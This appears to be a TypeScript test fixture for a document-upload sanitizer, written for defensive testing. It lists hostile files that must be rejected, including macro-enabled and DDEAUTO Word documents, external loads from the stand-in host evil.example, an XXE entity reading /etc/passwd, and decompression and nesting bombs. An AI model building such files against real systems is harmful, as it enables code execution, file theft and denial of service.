import { archive, contentTypes, documentXml, docx, relationships, sheet } from '../../../support/archive.ts'
import { bombDocument, busyDocument } from '../../../support/busy-files.ts'
import { hugePicture } from '../../../support/huge-picture.ts'
import { oldWord } from '../../../support/old-word.ts'

/** Stands in every file that could run; what was drawn again must not hold it. */
export const marker = 'planted-by-an-attacker'

export type Listed = [what: string, name: string, content: string | Buffer]

const field = (code: string) => `<w:fldSimple w:instr='${code}'/>`
const macro = contentTypes('ms-word.document.macroEnabled')

/** Files that run or load something when they are opened, that take more than they seem to, or that are not whole. */
export const neverKept = (png: Buffer, jpeg: Buffer): Listed[] => [
  ['a small file of 256 million pixels', 'slip.png', hugePicture(16_000)],
  ['the head of a JPEG', 'slip.jpg', jpeg.subarray(0, 160)],
  ['half of a JPEG', 'slip.jpg', jpeg.subarray(0, jpeg.length - 200)],
  ['a PNG that was cut off', 'logo.png', png.subarray(0, 60)],
  ['a small file of 400 million pixels', 'logo.png', hugePicture(20_000)],
  [
    'a document with macros called DOCX',
    'cv.docx',
    archive({
      '[Content_Types].xml': macro,
      'word/document.xml': documentXml(),
      'word/vbaProject.bin': marker,
    }),
  ],
  ['a document with macros in other letters', 'cv.docx', docx({ 'word/VBAPROJECT.bin': marker })],
  [
    'a document of the older kind with macros',
    'cv.doc',
    oldWord('CV', { _VBA_PROJECT: Buffer.from(marker) }),
  ],
  ['a document with controls', 'cv.docx', docx({ 'word/activeX/activeX1.bin': marker })],
  ...['attachedTemplate', 'oleObject', 'frame', 'subDocument', 'image'].map(
    (type): Listed => [
      `a document that loads its ${type} from elsewhere`,
      'cv.docx',
      docx({
        'word/_rels/document.xml.rels': relationships({ type, target: `https://evil.example/${marker}` }),
      }),
    ],
  ),
  [
    'a document with entities from elsewhere',
    'cv.docx',
    docx({ 'word/document.xml': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }),
  ],
  [
    'a document that unpacks to 200 MB',
    'cv.docx',
    docx([{ name: 'word/styles.xml', content: Buffer.alloc(200_000_000, ' '), packed: true }]),
  ],
  ['a document of 98 kB with parts of 40 MB', 'cv.docx', bombDocument()],
  ['a document that takes long to read', 'cv.docx', busyDocument()],
  [
    'a document that starts a program',
    'cv.docx',
    docx({ 'word/document.xml': documentXml(field('DDEAUTO')) }),
  ],
  [
    'a document that takes in a picture of an address',
    'cv.docx',
    docx({ 'word/document.xml': documentXml(field(`INCLUDEPICTURE "https://evil.example/${marker}"`)) }),
  ],
  ...['aFChunk', 'oleObject', 'package', 'subDocument', 'webextension'].map(
    (type): Listed => [
      `a document that holds something as ${type}`,
      'cv.docx',
      docx({
        'word/_rels/document.xml.rels': relationships({ type, target: 'media/1.png', mode: 'Internal' }),
        'word/media/1.png': marker,
      }),
    ],
  ),
  [
    'a document of the older kind with a program',
    'cv.doc',
    oldWord('CV', { '\u0001Ole10Native': Buffer.from(marker) }),
  ],
  ['a document of the older kind that starts a program', 'cv.doc', oldWord('\u0013DDEAUTO x\u0015')],
  [
    'a document that unpacks to more than it says',
    'cv.docx',
    docx([{ name: 'word/styles.xml', content: Buffer.alloc(50_000_000), packed: true, saidBytes: 900 }]),
  ],
  [
    'a document of 3,000 files',
    'cv.docx',
    docx(Object.fromEntries(Array.from({ length: 3_000 }, (_, n) => [`word/media/${n}.xml`, '<x/>']))),
  ],
  [
    'an archive in an archive in an archive',
    'cv.docx',
    docx({ 'word/a.xlsx': sheet({ 'xl/b.xlsx': sheet({ 'xl/c.xlsx': sheet() }) }) }),
  ],
]
